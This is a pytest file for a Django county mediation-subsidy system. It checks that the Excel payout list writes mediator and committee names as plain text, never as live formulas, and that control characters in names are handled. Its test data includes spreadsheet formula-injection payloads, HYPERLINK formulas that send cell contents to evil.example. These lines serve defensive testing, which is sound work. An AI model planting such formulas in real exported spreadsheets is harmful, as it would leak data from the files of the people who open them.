"""The 以奖代补 payout list is a spreadsheet a county pays from: a name typed by a committee's
填报员 must come out as the text typed, never as a formula the finance office's Excel runs
(issue 15, point 6), and names stored with control characters must not break it (point 9)."""

import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from fazhi.api import tokens
from fazhi.core import actions as core_actions
from fazhi.core.models import UnitKind
from fazhi.mediation import actions
from fazhi.mediation.models import MediationCase, SubsidyStatus
from fazhi.mediation.tests.forms import case_form

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&B3,"查看")'
COMMITTEE_FORMULA = '+HYPERLINK("http://evil.example/","白果")'
YEAR = 2024


def payout_sheets(client, county) -> tuple:
    client.force_login(county)
    response = client.get(reverse("mediation:subsidy_payout_xlsx"), {"year": YEAR})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    return book["发放名单"], book["按调解组织"]


def rows_of(sheet) -> dict:
    """Data rows by their first cell (the committee's code), as (data type, value) pairs."""
    return {
        row[0].value: [(cell.data_type, cell.value) for cell in row]
        for row in sheet.iter_rows(min_row=2)
        if row[0].value not in (None, "调解组织代码", "合计")
    }


def test_a_mediator_entered_as_a_formula_is_text_in_the_payout_list(
    client, tree, clerk, office, county
):
    # The committee's name is the unit tree's, kept by its administrator.
    core_actions.save_unit(
        None,
        code="433126-S01-01",
        name=COMMITTEE_FORMULA,
        kind=UnitKind.MEDIATION_COMMITTEE,
        parent=tree["office"],
    )
    client.force_login(clerk)
    form = {
        "unit": tree["committee"].pk,
        "number": "白果1",
        "committee_code": "433126-S01-01",
        "received_date": "2024-03-01",
        "dispute_type": "neighbour",
        "mediator": FORMULA,
        "status": "succeeded",
        "agreement_form": "written",
        "closed_date": "2024-03-10",
        "difficulty": "ordinary",
    }
    assert client.post(reverse("mediation:create"), form).status_code == 302
    case = MediationCase.objects.get(number="白果1")
    assert case.mediator == FORMULA  # a formula is legitimate text: kept as typed
    actions.approve_subsidy(county, actions.submit_for_subsidy(office, case, YEAR))

    payees, committees = payout_sheets(client, county)
    row = rows_of(payees)["433126-S01-01"]
    # openpyxl reads a live formula as data type "f"; "s" is text no spreadsheet evaluates.
    assert row[1] == ("s", COMMITTEE_FORMULA)
    assert row[2] == ("s", FORMULA)
    assert row[3][0] == "n" and row[4][0] == "n"  # counts and money stay numbers
    assert rows_of(committees)["433126-S01-01"][1] == ("s", COMMITTEE_FORMULA)


def test_a_mediator_changed_to_a_formula_through_the_api_after_approval_is_text(
    client, committees, clerk, office, county, mediate
):
    case = mediate("白果2")
    actions.approve_subsidy(county, actions.submit_for_subsidy(office, case, YEAR))
    _, secret = tokens.create_token(None, clerk, "测试")
    response = Client().patch(
        f"/api/registers/mediation/records/{case.pk}",
        {"mediator": FORMULA},
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {secret}",
    )
    assert response.status_code == 200, response.json()
    case.refresh_from_db()
    assert case.mediator == FORMULA
    if case.subsidy_status == SubsidyStatus.SUBMITTED:
        # A changed payee goes back to review (point 6's second half); the county, not seeing
        # the formula for what it is, approves it again.
        actions.approve_subsidy(county, case)

    payees, _ = payout_sheets(client, county)
    assert rows_of(payees)["433126-S01-01"][2] == ("s", FORMULA)


def test_names_stored_with_control_characters_never_break_the_payout_list(
    client, committees, office, county, mediate
):
    case = mediate("白果3")
    actions.approve_subsidy(county, actions.submit_for_subsidy(office, case, YEAR))
    # Straight into the database, as names written before inputs refused control characters.
    MediationCase.objects.filter(pk=case.pk).update(mediator="向\x01某\x1b")
    payees, _ = payout_sheets(client, county)
    assert rows_of(payees)["433126-S01-01"][2] == ("s", "向\ufffd某\ufffd")


def test_the_committee_clerk_cannot_enter_a_control_character(client, tree, clerk):
    client.force_login(clerk)
    form = case_form(tree["committee"], "白果4", mediator="向\x01某")
    response = client.post(reverse("mediation:create"), form)
    assert response.status_code == 200
    assert "「调解员」第 2 个字符是不可见的控制字符（U+0001）" in response.content.decode()
    assert not MediationCase.objects.filter(number="白果4").exists()
